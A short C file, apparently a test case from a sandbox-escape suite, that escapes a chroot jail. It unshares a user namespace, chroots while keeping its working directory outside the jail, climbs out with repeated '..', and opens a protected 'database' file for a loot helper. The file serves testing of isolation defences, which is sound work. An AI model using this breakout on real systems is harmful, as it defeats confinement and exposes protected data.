/* Climbs out of the folder that it was put into: chroot, and then upwards from a folder above it. */
#include "../attack.h"

#include <sched.h>

static void attack(void) {
    const char* inside = target("scratch");
    if (unshare(CLONE_NEWUSER) != 0 || chdir("/") != 0 || chroot(inside) != 0)
        return;
    for (int i = 0; i < 64; ++i)
        if (chdir("..") != 0)
            return;
    loot_from(open(target("database") + 1, O_RDONLY)); /* relative */
}
